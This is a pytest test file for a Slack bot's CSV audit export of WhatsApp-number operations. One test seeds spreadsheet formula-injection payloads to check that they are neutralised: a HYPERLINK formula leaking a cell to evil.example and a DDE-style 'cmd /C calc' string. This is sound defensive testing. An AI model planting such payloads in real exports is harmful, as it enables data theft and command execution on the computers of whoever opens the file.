"""`/wa-numbers audit [days]`: a CSV of the operations, streamed from the store, sent to the requester by DM."""

from __future__ import annotations

import asyncio
import csv
import io
import tempfile
from collections.abc import AsyncIterator, Callable
from contextlib import aclosing
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from conftest import OPERATOR, Person, running, seed_number, seed_operation
from sqlalchemy import insert
from standins import KaleyraStandIn, SlackStandIn
from standins.slack import dm_channel_id

from bot.settings import Settings
from bot.slack.audit import cell
from bot.store import Operation, Store, utcnow

HEADER = [
    "requested_at",
    "finished_at",
    "user_id",
    "action",
    "phone_number",
    "account",
    "outcome",
    "provider_code",
    "provider_message",
]


def iso(moment: datetime | None) -> str:
    return "" if moment is None else moment.isoformat(timespec="seconds") + "Z"


async def exported(person: Person, text: str = "audit") -> tuple[list[list[str]], str]:
    """Run `/wa-numbers <text>`; the CSV uploaded to the requester's DM, and the ephemeral summary."""

    def summaries() -> list[Any]:
        return [c for c in person.slack.calls_of("response_url:cmd") if "DM" in str(c.args.get("text"))]

    before, answered = len(person.slack.calls_of("files.completeUploadExternal")), len(summaries())
    status, body = await person.command("/wa-numbers", text)
    assert status == 200 and body["response_type"] == "ephemeral" and "Exporting" in body["text"]
    await person.slack.wait_for("response_url:cmd", lambda c: len(summaries()) > answered, timeout=20)
    summary = summaries()[-1]
    completes = person.slack.calls_of("files.completeUploadExternal")
    assert len(completes) == before + 1
    shared = person.slack.shared_files[-1]
    assert shared["channel_id"] == dm_channel_id(person.user_id)
    [opened] = [c for c in person.slack.calls_of("conversations.open")][-1:]
    assert opened.args["users"] == person.user_id
    data = person.slack.file_content(shared["id"])
    asked = person.slack.calls_of("files.getUploadURLExternal")[
        -1
    ].args  # as slack_sdk's files_upload_v2 sends
    assert asked["filename"].startswith("wa-bot-audit-") and asked["filename"].endswith(".csv")
    assert int(asked["length"]) == len(data) == shared["size"]
    content = data.decode("utf-8")
    assert content.startswith(",".join(HEADER) + "\r\n")
    return list(csv.reader(io.StringIO(content, newline=""))), str(summary.args["text"])


async def test_the_csv_has_the_header_and_the_operations_in_the_window_oldest_first(person: Person) -> None:
    store = person.bot.store
    now = utcnow().replace(microsecond=0)
    india = await seed_number(store, "kaleyra", "+919876543210", "awaiting_otp")
    uk = await seed_number(store, "kaleyra", "+442071234567", "failed")
    await seed_operation(store, india.id, "add", "ok", requested_at=now - timedelta(days=45))  # too old
    await seed_operation(store, uk.id, "add", "ok", requested_at=now - timedelta(days=31))  # too old
    await seed_operation(
        store,
        uk.id,
        "add",
        "failed",
        user_id="U0OTHER",
        requested_at=now - timedelta(days=2),
        finished_at=now - timedelta(days=2) + timedelta(seconds=3),
        provider_code="WA400",
        provider_message='phone number already exists, see "docs", line 2\nand more',
    )
    await seed_operation(
        store,
        india.id,
        "add",
        "ok",
        requested_at=now - timedelta(days=10),
        finished_at=now - timedelta(days=10) + timedelta(seconds=1),
    )
    await seed_operation(store, india.id, "verify", "pending", requested_at=now - timedelta(minutes=5))

    rows, summary = await exported(person)

    assert rows == [
        HEADER,
        [iso(now - timedelta(days=10)), iso(now - timedelta(days=10, seconds=-1)), OPERATOR, "add",
         "+919876543210", "kaleyra", "ok", "", ""],
        [iso(now - timedelta(days=2)), iso(now - timedelta(days=2, seconds=-3)), "U0OTHER", "add",
         "+442071234567", "kaleyra", "failed", "WA400", "phone number already exists, see \"docs\", line 2\nand more"],
        [iso(now - timedelta(minutes=5)), "", OPERATOR, "verify", "+919876543210", "kaleyra", "pending", "", ""],
    ]  # fmt: skip
    assert rows[1][0].endswith("Z") and "T" in rows[1][0]
    assert "Exported 3 operations from the last 30 days" in summary

    rows, summary = await exported(person, "audit 7")
    assert [row[3] for row in rows] == ["action", "add", "verify"]
    assert "Exported 2 operations from the last 7 days" in summary

    rows, summary = await exported(person, "AUDIT 3660")
    assert len(rows) == 1 + 5


async def test_no_operations_still_sends_the_header(person: Person) -> None:
    rows, summary = await exported(person, "audit 1")
    assert rows == [HEADER]
    assert "No operations in the last 1 days" in summary and "only its header" in summary


@pytest.mark.parametrize(
    "text", ["audit 0", "audit 3661", "audit -3", "audit seven", "audit 7 8", "audit 7.5", "audit ７"]
)
async def test_bad_days_are_answered_with_the_usage(person: Person, text: str) -> None:
    status, body = await person.command("/wa-numbers", text)
    assert status == 200 and body["response_type"] == "ephemeral"
    assert (
        "not a number of days from 1 to 3660" in body["text"] and "/wa-numbers audit [days]" in body["text"]
    )
    await asyncio.sleep(0.1)
    assert person.slack.calls_of("files.getUploadURLExternal") == []


async def test_help_names_the_audit(person: Person) -> None:
    _, body = await person.command("/wa-numbers", "help")
    assert "`/wa-numbers audit [days]`" in body["text"]


async def test_a_refused_person_gets_no_file(
    settings_for: Callable[..., Settings], slack: SlackStandIn
) -> None:
    async with running(settings_for(wa_bot_allowed_users="U0BOSS"), slack) as someone:
        number = await seed_number(someone.bot.store, "kaleyra", "+919876543210", "added")
        await seed_operation(someone.bot.store, number.id, "add", "ok")
        status, body = await someone.as_user("U0STRANGER").command("/wa-numbers", "audit")
        assert status == 200 and body["response_type"] == "ephemeral" and "allow-list" in body["text"]
        await asyncio.sleep(0.3)
        assert slack.calls_of("conversations.open") == []
        assert slack.calls_of("files.getUploadURLExternal") == []
        assert slack.calls_of("files.completeUploadExternal") == []
        assert slack.uploads == {}

        rows, _ = await exported(someone.as_user("U0BOSS"))
        assert len(rows) == 2 and slack.shared_files[-1]["channel_id"] == "D0BOSS"


async def test_a_formula_in_a_cell_is_neutralised(person: Person) -> None:
    number = await seed_number(person.bot.store, "kaleyra", "+919876543210", "failed")
    await seed_operation(
        person.bot.store,
        number.id,
        "add",
        "failed",
        provider_code="-1",
        provider_message='=HYPERLINK("http://evil.example/?"&A1,"click")',
    )
    await seed_operation(
        person.bot.store, number.id, "add", "failed", provider_message="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    await seed_operation(person.bot.store, number.id, "add", "failed", provider_message="+1+cmd")

    rows, _ = await exported(person)

    assert [row[8] for row in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1+cmd",
    ]
    assert rows[1][4] == "+919876543210" and rows[1][7] == "-1"  # a plain signed number is no formula
    assert [cell(v) for v in ("-2+3", "\tx", "\r=1", "ok", None)] == ["'-2+3", "'\tx", "'\r=1", "ok", ""]


async def test_no_otp_or_secret_reaches_the_file(person: Person, kaleyra: KaleyraStandIn) -> None:
    await person.command("/wa-add", "+91 98765 43210 Acme")
    await person.submit(await person.opened_view("wa_add"), {})
    await person.slack.wait_for("chat.postMessage", lambda c: "Enter OTP" in str(c.args.get("blocks")))
    await person.command("/wa-verify", "+919876543210")
    await person.submit(await person.opened_view("wa_verify"), {"otp": "482 913"})
    await kaleyra.wait_for_requests(2)
    await asyncio.sleep(0.3)

    rows, _ = await exported(person)

    content = "\n".join(",".join(row) for row in rows)
    assert [row[3] for row in rows[1:]] == ["add", "verify"]
    assert "482913" not in content and "482 913" not in content
    assert "test-kaleyra-key" not in content and "xoxb-test-token" not in content
    assert "test-signing-secret" not in content


@pytest.fixture
async def seeded_5000(person: Person) -> AsyncIterator[datetime]:
    number = await seed_number(person.bot.store, "kaleyra", "+919876543210", "verified")
    start = utcnow().replace(microsecond=0) - timedelta(days=20)
    values: list[dict[str, Any]] = [
        {
            "number_id": number.id,
            "user_id": OPERATOR,
            "action": "update",
            "outcome": "ok",
            "request": {},
            "requested_at": start + timedelta(minutes=i),
            "provider_message": f"update {i}",
        }
        for i in range(5000)
    ]
    async with person.bot.store.engine.begin() as connection:
        await connection.execute(insert(Operation), values)
    yield start


async def test_a_large_export_is_streamed_in_batches(person: Person, seeded_5000: datetime) -> None:
    batches = person.bot.store.audit(seeded_5000 - timedelta(seconds=1), batch_size=1000)
    assert isinstance(batches, AsyncIterator) and not isinstance(batches, list)
    sizes = [len(batch) async for batch in batches]
    assert sizes == [1000] * 5

    rows, summary = await exported(person)

    assert len(rows) == 1 + 5000
    assert [row[8] for row in rows[1:]] == [f"update {i}" for i in range(5000)]
    assert rows[1][0] == iso(seeded_5000) and rows[-1][0] == iso(seeded_5000 + timedelta(minutes=4999))
    assert "Exported 5000 operations" in summary


async def test_the_store_streams_the_window_in_batches_on_sqlite_and_postgresql(store: Store) -> None:
    number = await seed_number(store, "kaleyra", "+919876543210", "verified")
    now = utcnow()
    values = [
        {"number_id": number.id, "user_id": OPERATOR, "action": "add", "outcome": "ok", "request": {},
         "requested_at": now - timedelta(days=3, minutes=i)}
        for i in range(2600)
    ]  # fmt: skip
    async with store.engine.begin() as connection:
        await connection.execute(insert(Operation), values)

    batches = store.audit(now - timedelta(days=3, minutes=2500), batch_size=1000)
    assert isinstance(batches, AsyncIterator)
    got = [batch async for batch in batches]
    assert [len(batch) for batch in got] == [1000, 1000, 501]
    times = [row.requested_at for batch in got for row in batch]
    assert times == sorted(times) and times[0] == now - timedelta(days=3, minutes=2500)
    assert {(row.phone_number, row.account) for batch in got for row in batch} == {
        ("+919876543210", "kaleyra")
    }

    async with aclosing(store.audit(now - timedelta(days=30), batch_size=10)) as early:  # stopped early
        assert len(await anext(early)) == 10
    assert store.engine.pool.checkedout() == 0  # type: ignore[attr-defined]


async def test_the_temporary_file_is_deleted_and_a_refusal_is_told(
    person: Person, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    await exported(person)
    assert list(scratch.iterdir()) == []

    person.slack.fail("conversations.open", "missing_scope", times=1)
    status, body = await person.command("/wa-numbers", "audit 5")
    assert status == 200 and "Exporting" in body["text"]
    refused = await person.slack.wait_for(
        "response_url:cmd", lambda c: "Could not send" in str(c.args.get("text"))
    )
    assert "missing_scope" in refused.args["text"]
    assert list(scratch.iterdir()) == []
